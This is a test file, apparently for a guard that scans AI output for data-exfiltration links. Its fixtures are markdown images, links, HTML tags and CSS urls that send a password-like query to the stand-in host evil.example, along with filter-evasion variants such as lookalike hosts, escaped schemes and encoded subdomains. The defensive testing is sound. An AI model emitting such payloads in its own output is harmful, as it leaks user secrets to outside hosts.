import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createGuard } from '../../guard.ts';
import { fitExponent } from '../../testing/fit-exponent.ts';
import { startWorkMeter } from '../../testing/work-meter.ts';
import { createExfiltration } from './exfiltration.ts';

const OUTPUT = { target: 'output' } as const;
const guard = createGuard({
  policy: {
    schema: 1,
    allowedHosts: ['good.example', '*.cdn.example'],
    rules: [{ id: 'links', detect: ['exfiltration.*'], action: 'redact', operator: 'drop' }],
  },
});

interface Outcome {
  readonly text: string;
  readonly found: readonly string[];
}

function outcomeOf(text: string): Outcome {
  const { text: safe, verdict } = guard.inspect(text, OUTPUT);
  const name = (id: string): string => id.replace('exfiltration.', '');
  return { text: safe, found: verdict.findings.map(({ detector, score }) => `${name(detector)} ${score}`) };
}

const DATA = 'q=the%20password%20is%20hunter2';
const EVIL = `https://evil.example/log?${DATA}`;
const LONG = `https://evil.example/log?q=${'c2VjcmV0'.repeat(60)}`;

describe('what carries data away is found, its link taken out and its text kept', () => {
  test.each<[name: string, text: string, safe: string, found: readonly string[]]>([
    ['an image', `a ![x](${EVIL}) b`, 'a ![x] b', ['markdown_image 0.9']],
    ['an image with a title', `![x](${EVIL} "nice picture") b`, '![x] b', ['markdown_image 0.9']],
    ['an image in angle brackets', `![x](<${EVIL}>)`, '![x]', ['markdown_image 0.9']],
    ['an image behind a line break', `![x](\n${EVIL})`, '![x]', ['markdown_image 0.9']],
    ['an image without a scheme', `![x](//evil.example/?${DATA})`, '![x]', ['markdown_image 0.9']],
    ['an image with slashes the wrong way', `![x](https:\\\\evil.example\\?${DATA})`, '![x]', ['markdown_image 0.9']],
    ['an image whose scheme is escaped', `![x](&#104;ttps://evil.example/?${DATA})`, '![x]', ['markdown_image 0.9']],
    [
      'an image in a link',
      `[![x](${EVIL})](https://good.example)`,
      '[![x]](https://good.example)',
      ['markdown_image 0.9'],
    ],
    ['an image with brackets in its text', `![a [b] c](${EVIL})`, '![a [b] c]', ['markdown_image 0.9']],
    ['an image with a short value', '![x](https://evil.example/?pin=4471)', '![x]', ['markdown_image 0.6']],
    ['an image with parentheses', '![x](https://evil.example/?q=a(b)c(d)e(f)g(h))!', '![x]!', ['markdown_image 0.9']],
    ['a long image', `a ![x](${LONG}) b`, 'a ![x] b', ['markdown_image 0.9']],
    ['a reference', `![x][1]\n\n[1]: ${EVIL}\n`, '![x][1]\n\n[1]: \n', ['markdown_reference 0.9']],
    ['a link', `see [here](${EVIL}).`, 'see [here].', ['markdown_link 0.7']],
    ['an autolink', `see <${EVIL}>.`, 'see <>.', ['url 0.7']],
    ['a bare link', `see ${EVIL}.`, 'see .', ['url 0.7']],
    ['a bare link in capitals', `see HTTPS://EVIL.EXAMPLE/?${DATA} b`, 'see  b', ['url 0.7']],
    ['a bare link without a scheme', `see www.evil.example/?${DATA} b`, 'see  b', ['url 0.7']],
    ['an image of HTML', `<img alt="x" src="${EVIL}">`, '<img alt="x" src="">', ['html_resource 0.9']],
    ['an image of HTML without quotes', `<img src=${EVIL}>`, '<img src=>', ['html_resource 0.9']],
    ['an image of HTML with spaces', `<img src = ' ${EVIL}'>`, "<img src = ' '>", ['html_resource 0.9']],
    ['a frame', `<iframe src='${EVIL}'></iframe>`, "<iframe src=''></iframe>", ['html_resource 0.9']],
    [
      'a sheet of styles',
      `<link rel="stylesheet" href="${EVIL}">`,
      '<link rel="stylesheet" href="">',
      ['html_resource 0.9'],
    ],
    ['a link of HTML', `<a href="${EVIL}">here</a>`, '<a href="">here</a>', ['html_link 0.7']],
    ['a form', `<form action="${EVIL}">`, '<form action="">', ['html_link 0.7']],
    ['a style', `<p style="background: url(${EVIL})">`, '<p style="background: url()">', ['html_resource 0.9']],
    ['a style with quotes', `p { background: url('${EVIL}') }`, "p { background: url('') }", ['html_resource 0.9']],
    ['an import of styles', `@import "${EVIL}";`, '@import "";', ['html_resource 0.9']],
    [
      'a page that moves on',
      `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
      '<meta http-equiv="refresh" content="0;url=">',
      ['html_resource 0.9'],
    ],
    ['data in a path', '![x](https://evil.example/the%20password%20is%20hunter2.png)', '![x]', ['markdown_image 0.9']],
    ['an address in a path', '![x](https://evil.example/ann@acme.example/p.png)', '![x]', ['markdown_image 0.9']],
    [
      'encoded data in a path',
      `![x](https://evil.example/${'Zm9vYmFyIGJheiA0NDcx'.repeat(3)}.png)`,
      '![x]',
      ['markdown_image 0.9'],
    ],
    ['data in the host', '![x](https://746865207061737377.evil.example/p.png)', '![x]', ['markdown_image 0.9']],
    [
      'encoded data in the host',
      '![x](https://mzxw6ytboi2dinbxge4dcnrxgy3.evil.example/)',
      '![x]',
      ['markdown_image 0.9'],
    ],
    ['encoded data in a fragment', '[x](https://evil.example/#Zm9vYmFyIGJheiA0NDcxMTIz)', '[x]', ['markdown_link 0.7']],
    ['two', `![x](${EVIL})![y](${EVIL})`, '![x]![y]', ['markdown_image 0.9', 'markdown_image 0.9']],
  ])('%s', (_name, text, safe, found) => {
    expect(outcomeOf(text)).toEqual({ text: safe, found });
  });

  test.each<[name: string, url: string]>([
    ['a host that begins like an allowed one', 'https://good.example.evil.example'],
    ['a host that ends like an allowed one', 'https://notgood.example'],
    ['an allowed host as the user', 'https://good.example@evil.example'],
    ['an allowed host behind a backslash', 'https://evil.example\\@good.example'],
    ['an allowed host in a lookalike script', 'https://gооd.example'],
    ['an allowed host, escaped', 'https://good%2eexample'],
    ['an allowed host behind a port', 'https://evil.example:443@good.example:1@evil.example'],
    ['the host below which others are allowed', 'https://cdn.example'],
    ['a number', 'http://3232235777'],
  ])('to %s', (_name, url) => {
    expect(outcomeOf(`![x](${url}/?${DATA})`).text).toBe('![x]');
  });
});

describe('what carries no data, or carries it where it may, stays', () => {
  test.each<[name: string, text: string]>([
    ['an allowed host', `![x](https://good.example/?${DATA})`],
    ['an allowed host in capitals, with a port', `![x](https://GOOD.example:8443/?${DATA})`],
    ['a host below an allowed one', `![x](https://eu.img.cdn.example/?${DATA})`],
    ['this machine', `![x](http://localhost:3000/?${DATA})`],
    ['an image', '![logo](https://images.example/logo.png)'],
    ['an image and its size', '![x](https://images.example/photo-1.jpg?w=800&h=600&fit=crop&auto=format&q=80)'],
    ['a badge', '![build](https://img.example/badge/build-passing-green?style=flat-square&logo=github)'],
    ['an image with a digest', `![x](https://images.example/${'3f2a'.repeat(16)}.png)`],
    ['an image of the page', '![x](/images/a.png?q=1) ![x](data:image/png;base64,iVBORw0KGgo=)'],
    [
      'a page of documentation',
      'See [os.path](https://docs.example/3/library/os.path.html?highlight=join#os.path.join).',
    ],
    [
      'where a reader came from',
      'https://news.example/2026/11/some-long-title-of-an-article?utm_source=chat&utm_medium=referral',
    ],
    ['a repository', 'https://git.example/acme/project/blob/8f14e45fceea167a5a36dedd4bea2543f6b1c2d3/src/a.ts#L10-L20'],
    ['a slash of a comment', 'const a = 1; // the password is hunter2, isn’t it?'],
    ['a path', '![x](../images/the%20password%20is%20hunter2.png)'],
    ['code with a URL', 'const url = "https://api.example/v1"; fetch(url)'],
    ['no link at all', 'Either/or, http, www and (https) are words. ]( and ![]('],
  ])('%s', (_name, text) => {
    expect(outcomeOf(text)).toEqual({ text, found: [] });
  });

  test('in what a user or a document says', () => {
    const text = `![x](${EVIL})`;
    for (const target of ['input', 'retrieval', 'tool_result'] as const)
      expect(guard.inspect(text, { target }).text).toBe(text);
  });
});

describe('presets', () => {
  const text = `![x](${EVIL}) and [y](${EVIL})`;
  test.each<['monitor' | 'balanced' | 'strict', string]>([
    ['monitor', text],
    ['balanced', text],
    ['strict', '![x] and [y]'],
  ])('%s', (policy, safe) => {
    const { text: shown, verdict } = createGuard({ policy }).inspect(text, OUTPUT);
    expect(shown).toBe(safe);
    expect(verdict.findings.filter(({ detector }) => detector.startsWith('exfiltration.'))).toHaveLength(2);
  });

  test('leave what a tool is called with', () => {
    const call = JSON.stringify({ url: EVIL });
    expect(createGuard({ policy: 'strict' }).inspect(call, { target: 'tool_call', format: 'json' }).text).toBe(call);
  });
});

describe('a stream finds what is found in the whole text', () => {
  const piece = fc.oneof(
    {
      weight: 4,
      arbitrary: fc.constantFrom(
        EVIL,
        LONG,
        `![x](${EVIL})`,
        `![x](${LONG} "title") b`,
        `[x](<${EVIL}>)`,
        `<img src="${EVIL}">`,
        `<a href='${LONG}'>`,
        `[1]: ${EVIL}\n`,
        'https://good.example/?q=1',
        'url(',
        `see (${EVIL}).`,
        `www.evil.example/?${DATA},`,
      ),
    },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        '](',
        '![',
        '[',
        ')',
        '"',
        "'",
        '<',
        '>',
        '/',
        '//',
        'http',
        'https:',
        'www.',
        '=',
        ' ',
        '\n',
        '<img src="',
        ']: ',
        '\\',
        'src=',
        'x'.repeat(50),
        '𝐀',
        '\ud83d',
        '        ',
      ),
    },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
  );
  const text = fc.array(piece, { maxLength: 8 }).map((parts) => parts.join(''));

  test('for any chunking', () => {
    fc.assert(
      fc.property(text, fc.array(fc.integer({ min: 1, max: 60 }), { minLength: 1, maxLength: 8 }), (whole, sizes) => {
        const stream = guard.stream();
        let out = '';
        for (let from = 0, turn = 0; from < whole.length; turn++) {
          const size = sizes[turn % sizes.length] ?? 1;
          out += stream.push(whole.slice(from, from + size));
          from += size;
        }
        out += stream.end();
        const expected = guard.inspect(whole, OUTPUT);
        expect(out).toBe(expected.text);
        expect(stream.findings).toEqual(expected.verdict.findings);
      }),
      { numRuns: 3000 },
    );
  });

  test.each([
    ['an image without an end', `![x](${LONG}`],
    ['a title without an end', `![x](${EVIL} "${'t'.repeat(200)}`],
    ['spaces in front of a link', `![x](${' '.repeat(200)}`],
    ['a link without an end', 'https://evil.example/?q='.padEnd(2000, 'x')],
    ['a path', '](aaaa'.padEnd(300, 'a')],
    ['an attribute', `<img src="${'a b '.repeat(100)}`],
    ['letters', 'h'],
    ['slashes', '/'],
  ])('waits with no more than 256 characters of %s', (_name, unit) => {
    const stream = guard.stream();
    for (const letter of unit.repeat(Math.ceil(2000 / unit.length))) {
      stream.push(letter);
      expect(stream.held).toBeLessThanOrEqual(256);
    }
  });

  test.each([
    ['slashes', '/'],
    ['images', `![x](${EVIL})`],
    ['images without an end', `![x](${EVIL}`],
    ['brackets', '![](//'],
    ['attributes', '<a b="//c" '],
    ['schemes', 'https:'],
    ['one long link', 'https://evil.example/?q=x'],
    ['spaces', '](  //  '],
  ])('takes time that grows as the text, for %s', (_name, unit) => {
    const meter = startWorkMeter();
    try {
      for (const piece of [undefined, 7]) {
        const costs = [8192, 4096, 2048].map((size) => {
          const whole = unit.repeat(Math.ceil(size / unit.length));
          const cost = meter.measure(() => {
            const cursor = createExfiltration([]).createCursor();
            const step = piece ?? whole.length;
            for (let from = 0; from < whole.length; from += step) cursor.push(whole.slice(from, from + step), false);
            cursor.push('', true);
          });
          return { size, cost: size + cost };
        });
        expect(fitExponent(costs)).toBeLessThan(1.15);
      }
    } finally {
      meter.stop();
    }
  });
});
